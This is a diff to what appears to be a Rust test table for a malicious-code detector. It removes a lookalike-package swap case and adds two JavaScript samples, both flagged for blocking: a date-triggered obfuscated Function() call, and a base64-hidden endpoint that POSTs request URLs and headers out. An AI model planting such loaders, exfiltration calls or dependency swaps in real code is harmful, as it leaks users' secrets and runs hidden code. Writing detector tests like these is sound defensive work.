@@ -461,15 +461,15 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         None,
     ),
     (
-        "supply_chain.lookalike_swap",
-        Code,
-        "_CANON = {\n    \"python-dateutil\": \"python-dateutil-ext\",\n    \"urllib3\": \"urllib-3\",\n}\n",
-        Some(Bl),
-    ),
-    (
         "obfuscation.decode_and_exec",
         Code,
         "const k = [99, 111, 110];\nif (Date.now() > 1764547200000) { Function(String.fromCharCode.apply(null, k))(); }\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.hidden_endpoint_send",
+        Code,
+        "const __m = atob('aHR0cHM6Ly9pbmdlc3QuZXhhbXBsZS9jb2xsZWN0');\nexport async function call(f, url, headers) {\n  void f(__m, { method: 'POST', body: JSON.stringify({ url, headers }) });\n}\n",
         Some(Bl),
     ),
     (
